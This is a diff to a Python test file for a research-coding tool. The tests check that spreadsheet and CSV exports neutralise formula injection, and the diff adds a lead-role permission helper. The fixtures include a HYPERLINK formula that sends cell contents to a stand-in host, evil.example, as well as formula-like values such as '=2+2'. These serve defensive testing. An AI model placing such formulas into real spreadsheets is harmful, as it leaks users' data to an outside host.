@@ -17,7 +17,7 @@ from gioia import Project
 from gioia.importers.manifest import TranscriptMeta
 from gioia.spreadsheet import neutralise, restore
 
-from .conftest import run
+from .conftest import as_lead, run
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 INTERVIEW = (
@@ -63,10 +63,12 @@ def test_every_text_comes_back(text: str) -> None:
 def _hostile(project: Project, folder: Path) -> None:
     path = folder / "hostile.txt"
     path.write_text(INTERVIEW, encoding="utf-8")
-    project.import_file(path, TranscriptMeta(case="-Case", attributes={"case.size": "=2+2"}))
+    as_lead(project).import_file(
+        path, TranscriptMeta(case="-Case", attributes={"case.size": "=2+2"})
+    )
     project.add_item("concept", NAMES["concept"])
-    project.assign([NAMES["concept"]], theme=NAMES["theme"], create=True)
-    project.assign([NAMES["theme"]], dimension=NAMES["dimension"], create=True)
+    as_lead(project).assign([NAMES["concept"]], theme=NAMES["theme"], create=True)
+    as_lead(project).assign([NAMES["theme"]], dimension=NAMES["dimension"], create=True)
     project.tag(["hostile:2"], NAMES["concept"], quote=f"{LINK} was in the message")
     project.tag(["hostile:4"], NAMES["concept"])
 
@@ -133,9 +135,9 @@ def test_structure_and_codings_round_trip_through_import(
     project.export_codings(codings_file)
     fresh_store = tmp_path / "fresh.db"
     with Project.init(str(fresh_store)) as fresh:
-        fresh.import_file(tmp_path / "hostile.txt")
-        fresh.import_structure(structure_file)
-        assert fresh.import_codings(codings_file).added == 2
+        as_lead(fresh).import_file(tmp_path / "hostile.txt")
+        as_lead(fresh).import_structure(structure_file)
+        assert as_lead(fresh).import_codings(codings_file).added == 2
         view = fresh.structure()
         assert (
             view.dimensions[0].name,
@@ -165,7 +167,7 @@ def test_csv_on_standard_output_is_neutralised(
 def test_analysis_exports_hold_no_formula(project: Project, tmp_path: Path) -> None:
     _hostile(project, tmp_path)
     project.tag(["hostile:2"], "@Pair", create=True)
-    project.assign(["@Pair"], theme=NAMES["theme"])
+    as_lead(project).assign(["@Pair"], theme=NAMES["theme"])
     project.write_matrix(tmp_path / "matrix.csv", project.matrix(level="concept"))
     project.write_cooccurrence(tmp_path / "pairs.csv", project.cooccurrence())
     project.write_saturation(tmp_path / "saturation.csv", project.saturation())
